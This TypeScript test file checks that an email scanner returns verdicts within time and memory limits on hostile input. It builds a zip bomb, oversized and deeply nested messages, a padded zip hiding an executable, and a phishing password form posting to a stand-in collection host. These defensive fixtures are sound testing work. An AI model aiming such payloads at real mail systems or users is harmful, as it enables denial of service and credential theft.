import { randomBytes } from 'node:crypto'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { VerdictSchema, type Action } from '@moat/contract'
import { peProgram } from '../engines/attachments/testing/samples.ts'
import { buildZip } from '../engines/attachments/testing/zip-writer.ts'
import { buildMessage } from '../testing/build-message.ts'
import { bigMessage, manyPartsMessage, nestedMessage } from '../testing/hostile-messages.ts'
import { listCorpus } from '../bench/corpus.ts'
import { runMoat } from '../testing/run-moat.ts'

/** The bounds the scanner promises for any single message, however hostile. */
const MAX_SECONDS = 10
const MAX_RSS_MB = 1024

const dir = mkdtempSync(join(tmpdir(), 'moat-hostile-'))
/** A trained learning state, so the Bayes filter and the fingerprint index do their full work too. */
const dataDir = join(dir, 'data')

beforeAll(async () => {
  const ham = (await listCorpus(['easy-ham-1'])).slice(0, 60).flatMap((f) => ['--ham', f.path])
  const spam = (await listCorpus(['spam-1'])).slice(0, 20).flatMap((f) => ['--spam', f.path])
  const run = await runMoat(['train', ...ham, ...spam], { dataDir, timeoutMs: 60_000 })
  expect(run.code, run.stderr).toBe(0)
}, 90_000)

/** Each hostile input, with the actions that are acceptable for it. */
const cases: [string, () => Buffer, Action[]][] = [
  // Larger than clamd reads (25 MiB, Debian's StreamMaxLength): unscanned content is held.
  ['a 50 MB message', () => bigMessage(50), ['quarantine']],
  ['a message nested 100 levels deep', () => nestedMessage(100), ['quarantine']],
  ['a zip bomb (512 MB of zeros in 8 entries)', () => zipBombMessage(), ['quarantine']],
  ['a message cut off mid-part', () => nestedMessage(40).subarray(0, 1500), ['allow', 'flag', 'quarantine']],
  ['1 MB of random bytes', () => randomBytes(1024 * 1024), ['quarantine']],
  [
    'a 3 MB header block',
    () => Buffer.from(`Subject: x\r\nX-Pad: ${'a'.repeat(3 * 1024 * 1024)}\r\n\r\nbody`),
    ['quarantine'],
  ],
  ['5,000 MIME parts', () => manyPartsMessage(5000), ['quarantine']],
  ['a program in a zip padded past the attachment limit', () => paddedZipMessage(), ['quarantine']],
  ['a credential form behind 5 MB of HTML padding', () => paddedHtmlMessage(), ['quarantine']],
]

describe('hostile input through the moat command line', () => {
  it.each(cases)(
    '%s: a verdict within 10 s and 1 GB, and the process exits normally',
    async (label, build, actions) => {
      const file = join(dir, `${label.replace(/\W+/g, '-')}.eml`)
      writeFileSync(file, build())
      const run = await runMoat(['scan', '--json', '--stats', file], { dataDir, timeoutMs: 30_000 })
      expect(run.code).toBe(0)
      const verdict = VerdictSchema.parse(JSON.parse(run.stdout))
      expect(actions).toContain(verdict.action)
      expect(verdict.engines.failed).toEqual([])

      const stats = /in ([\d.]+) s, peak RSS (\d+) MB/.exec(run.stderr)
      expect(stats, run.stderr).not.toBeNull()
      expect(Number(stats![1])).toBeLessThan(MAX_SECONDS)
      expect(Number(stats![2])).toBeLessThan(MAX_RSS_MB)
    },
  )
})

/** A zip whose 33 MB of stored padding pushes its directory (and the program) past 32 MiB. */
function paddedZipMessage(): Buffer {
  const zip = buildZip([
    { name: 'padding.bin', data: randomBytes(33 * 1024 * 1024), method: 'store' },
    { name: 'invoice.exe', data: peProgram() },
  ])
  return buildMessage({ text: 'invoice attached', attachments: [{ filename: 'invoice.zip', content: zip }] })
}

function paddedHtmlMessage(): Buffer {
  const form = '<form action="https://collect.example.net/p"><input type="password" name="p"></form>'
  return buildMessage({ html: `<!-- ${'pad '.repeat(5 * 1024 * 256)} -->${form}` })
}

/** 8 entries of 64 MB of zeros each: 512 MB expanded from about 0.5 MB. */
function zipBombMessage(): Buffer {
  const zeros = Buffer.alloc(64 * 1024 * 1024)
  const zip = buildZip(Array.from({ length: 8 }, (_, i) => ({ name: `part${i}.bin`, data: zeros })))
  return buildMessage({ text: 'archive attached', attachments: [{ filename: 'bomb.zip', content: zip }] })
}
